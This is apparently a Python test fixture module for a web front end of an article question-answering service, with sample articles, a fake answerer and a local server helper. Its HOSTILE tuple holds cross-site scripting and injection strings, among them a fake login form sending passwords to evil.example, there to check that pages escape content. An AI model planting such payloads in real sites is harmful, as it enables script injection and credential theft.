"""Articles, replies, hostile texts and a running server for the tests of the web door."""

import asyncio
import socket
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date
from functools import partial
from pathlib import Path
from types import SimpleNamespace

import uvicorn
from fastapi import FastAPI
from starlette.testclient import TestClient

from index.errors import ArticleMissing
from index.library import Edition
from index.records import Article, Filters, Hit, Passage
from index.store import Entry
from qa.answerer import Answerer
from qa.records import Answer, Citation, Reply, Turn
from qa.searching import Tell
from web.ask.conversation import Desk
from web.evaluation.judged import Judged
from web.guard import LOCAL_HOSTS, Guard
from web.history.store import History
from web.library.catalogue import Catalogue
from web.library.routes import Shop, library_routes
from web.making import shop_of
from web.programs import Programs
from web.routes import Parts

HOSTILE = (
    "<script>window.hacked=1</script>",
    "<img src=https://evil.example/a.png onerror=window.hacked=1>",
    '"><svg onload=window.hacked=1><a href="javascript:window.hacked=1">x</a>',
    "' onmouseover='window.hacked=1' x='",
    "![beacon](https://evil.example/b.png) [link](javascript:window.hacked=1)",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/c.png)">log in</div>',
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><meta http-equiv=refresh content=0;url=//evil.example>",
    "</p></div></section><style>@import 'https://evil.example/d.css';</style>",
    "$$\\href{javascript:window.hacked=1}{x}$$ $x$ \\(y\\) `code` ```mermaid graph```",
    "# heading\n\n- item\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n    code\n\n[^1]: note\n\n***",
    "see https://evil.example/e www.evil.example mallory@evil.example &lt;b&gt; &#60;b&#62; &amp;amp; <!-- <![CDATA[",
    "[1] [2] [99] \u202etxet desrever\u202c \u200bzero\u200bwidth :smile: <details open ontoggle=window.hacked=1>",
)


@dataclass(frozen=True)
class Searched:
    """A status as the page needs it."""

    name: str = "000007"
    articles: int = 3
    newest: date | None = date(2024, 2, 9)
    ahead: int = 0
    problem: str | None = None
    declining: str = "whether the articles answer is decided by a rule"


SEARCHED = Searched()
LANDING = Article(
    id="space/landing",
    title="A soft landing",
    text="A soft landing\n\n"
    "The lander set down on 23 August 2023. Nobody was aboard. The lander set down on 23 August 2023.\n\n"
    "Afterwards\n\n"
    "It slept from 2 September on.\n\n"
    "It was not heard of again.",
    published=date(2023, 8, 24),
    source="Northern Wire",
    author="A. Writer",
    url="https://www.example.org/landing",
    lang="en",
)
LAUNCH = Article("space/launch", "A loud launch", "The rocket left on 14 July 2023. It was loud.", date(2023, 7, 14))
ICE = Article("earth/ice", "Ice", "Ice is cold. Snow is, too.")


def hit(article: Article, start: int, end: int, rank: int = 1) -> Hit:
    return Hit(Passage(article.id, start, end, article.text[start:end]), article, 1 - rank / 10, rank, 0.5, 0.5)


def citation(number: int, article: Article, start: int, end: int) -> Citation:
    return Citation.of(number, article, (start, end))


def spans_of(text: str, sentence: str) -> list[tuple[int, int]]:
    """Where a sentence stands in a text, every time."""
    return [(i, i + len(sentence)) for i in range(len(text)) if text.startswith(sentence, i)]


def reply(answer: Answer, question: str = "When did it land?", **changes: object) -> Reply:
    fields = {
        "resolved_question": question,
        "filters": Filters(),
        "inferred": None,
        "generation": "000007",
        "asked_on": date(2024, 3, 1),
        "took_ms": 84.0,
    } | changes
    return Reply(question=question, answer=answer, **fields)


def landed() -> Answer:
    """Two cited sentences of one passage and one of another; the second time that a repeated sentence stands there."""
    _, twice = spans_of(LANDING.text, "The lander set down on 23 August 2023.")
    (slept,) = spans_of(LANDING.text, "It slept from 2 September on.")
    (left,) = spans_of(LAUNCH.text, "The rocket left on 14 July 2023.")
    cited = (citation(1, LANDING, *twice), citation(2, LAUNCH, *left), citation(3, LANDING, *slept))
    hits = (hit(LANDING, 16, slept[1]), hit(LAUNCH, 0, 45, 2), hit(ICE, 0, 26, 3))
    return Answer(" ".join(f"{c.quote} [{c.number}]" for c in cited), cited, hits, True, 0.9)


def landed_late() -> Answer:
    """One cited sentence far down in its passage."""
    article = Article("long", "A long way", "It flew on and on. " * 40 + "Then it set down. " + "It stood there. " * 40)
    (span,) = spans_of(article.text, "Then it set down.")
    end = len(article.text)
    return Answer("Then it set down. [1]", (citation(1, article, *span),), (hit(article, 0, end),), True, 0.9)


def declined() -> Answer:
    return Answer("The articles do not answer this.", (), (hit(ICE, 0, 12), hit(LAUNCH, 0, 45, 2)), False, 0.1)


def hostile_article(text: str) -> Article:
    """The text in every field that an article has."""
    flat = " ".join(text.split())
    return Article(
        id=flat, title=flat, text=f"{text}\n\nBefore. {text} After.", published=date(2024, 1, 2), author=flat,
        source=flat, url=flat, lang=flat,
    )  # fmt: skip


def hostile_answer(text: str) -> Answer:
    article = hostile_article(text)
    start, end = spans_of(article.text, text)[1]
    quote = citation(1, article, start, end)
    said = text.replace("[", "(").replace("]", ")")
    hits = (hit(article, len(text) + 2, len(article.text)), hit(article, 0, len(text), 2))
    return Answer(f"{said} [1]", (quote,), hits, True, 0.9)


class FakeAsk:
    """Answers every question alike and remembers what it was asked."""

    def __init__(self, answer: Callable[[str], Answer] = lambda question: landed()) -> None:
        self.answer = answer
        self.asked: list[tuple[str, list[Turn]]] = []
        self.filters: list[tuple[Filters, bool]] = []
        self.asked_at: float | None = None  # of the last question

    def __call__(
        self,
        question: str,
        *,
        history: Sequence[Turn],
        filters: Filters,
        infer_dates: bool = True,
        tell: Tell | None = None,
        asked_at: float | None = None,
    ) -> Reply:
        self.asked.append((question, list(history)))
        self.filters.append((filters, infer_dates))
        self.asked_at = asked_at
        if tell:
            tell(landed().consulted)
        return reply(self.answer(question), question, filters=filters)


def made_up(ask: FakeAsk, folder: Path, articles: dict[str, Article] | None = None) -> Parts:
    """The parts of the pages over made-up answers and articles."""
    known = articles or {article.id: article for article in (LANDING, LAUNCH, ICE)}
    history = History(folder / "history.sqlite")
    desk = Desk(ask, lambda: SEARCHED, lambda: [*known, "long"], history)

    def edition(article_id: str, content_hash: str) -> Edition:
        if article_id not in known:
            raise ArticleMissing(f"no article {article_id}")
        article = known[article_id]
        return Edition(article, article if content_hash in ("", article.content_hash) else None)

    catalogue = Catalogue([(entry_of(article), len(article.text)) for article in known.values()], [])
    functions = SimpleNamespace(ask=partial(ask, history=()), edition=edition, status=lambda: SEARCHED)
    shop = Shop(lambda: catalogue, lambda: SEARCHED)
    return Parts(
        desk,
        edition,
        lambda: SEARCHED,
        shop,
        Programs(functions, None, None),
        Judged(folder / "judged", edition, folder / "index"),
    )


def library_client(answerer: Answerer, index: Path, corpus: Path | None) -> TestClient:
    """The library's page alone, over a real index and, where there is one, a folder that can be changed."""
    app = FastAPI()
    app.include_router(library_routes(shop_of(answerer, index, corpus, lambda: None)))
    return TestClient(Guard(app, LOCAL_HOSTS), base_url="http://127.0.0.1")


def entry_of(article: Article) -> Entry:
    a = article
    return Entry(a.id, f"{a.id}.txt", a.content_hash, a.title, a.published, a.source, a.author)


def in_a_loop(make: Callable[[], FastAPI]) -> FastAPI:
    """Make the application while an event loop runs: without one Gradio opens a few of its own and closes none."""

    async def made() -> FastAPI:
        return make()

    with ThreadPoolExecutor(1) as thread:  # a thread of its own, for a browser's test has a loop running already
        return thread.submit(lambda: asyncio.run(made())).result()


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        return int(listener.getsockname()[1])


@contextmanager
def serving(app: FastAPI, port: int = 0) -> Iterator[str]:
    """The address of the application on a free port of this machine, until the block ends."""
    from ui import configured

    config = configured(app, port)
    config.timeout_graceful_shutdown = 1
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        assert thread.is_alive(), "the server did not start"
        time.sleep(0.01)
    try:
        yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join()
